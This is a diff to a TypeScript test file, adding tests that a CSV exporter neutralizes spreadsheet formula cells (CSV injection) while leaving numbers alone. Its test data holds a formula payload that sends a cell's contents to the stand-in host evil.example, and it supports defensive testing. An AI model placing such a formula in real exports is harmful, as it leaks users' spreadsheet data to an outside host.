@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { CSV_DIALECTS, toCsv } from './csv.ts';
+import { CSV_DIALECTS, neutralizeFormula, toCsv } from './csv.ts';
 
 describe('toCsv', () => {
   const rows = [
@@ -31,5 +31,25 @@ describe('toCsv', () => {
 
   it('writes headings in place of the column names when given, quoted like any cell', () => {
     expect(toCsv(['a', 'b'], [{ a: 1, b: 2 }], CSV_DIALECTS.nb, ['Rate; rå', 'Antall'])).toBe('\uFEFF"Rate; rå";Antall\r\n1;2\r\n');
+  });
+
+  it('neutralizes formula cells (OWASP CSV Injection): text starting with = + - @ tab or CR gets a leading quote mark and is quoted', () => {
+    const rows = [
+      { a: '=HYPERLINK("https://evil.example/?"&A2,"x")', b: '+1+cmd', c: '@SUM(1)' },
+      { a: '-2+3', b: '\t=1', c: '\r=1' },
+    ];
+    expect(toCsv(['a', 'b', 'c'], rows, CSV_DIALECTS.nb)).toBe(
+      '\uFEFFa;b;c\r\n"\'=HYPERLINK(""https://evil.example/?""&A2,""x"")";"\'+1+cmd";"\'@SUM(1)"\r\n"\'-2+3";"\'\t=1";"\'\r=1"\r\n',
+    );
+  });
+
+  it('numbers stay numbers: negative numbers, and plain numbers as text (numeric columns from PostgreSQL), are not touched', () => {
+    const rows = [
+      { a: -3, b: '-3', c: '-0,25' },
+      { a: -0.5, b: '+4', c: '1e-7' },
+    ];
+    expect(toCsv(['a', 'b', 'c'], rows, CSV_DIALECTS.nb)).toBe('\uFEFFa;b;c\r\n-3;-3;-0,25\r\n-0,5;+4;1e-7\r\n');
+    expect(['-3', '-3.5', '+2', 'Førde', ' =1', 'a=b', '–', ''].map(neutralizeFormula)).toEqual(['-3', '-3.5', '+2', 'Førde', ' =1', 'a=b', '–', '']);
+    expect(['-', '-x', '=1', '@a', '+', '-3 + 1'].map(neutralizeFormula)).toEqual(["'-", "'-x", "'=1", "'@a", "'+", "'-3 + 1"]);
   });
 });
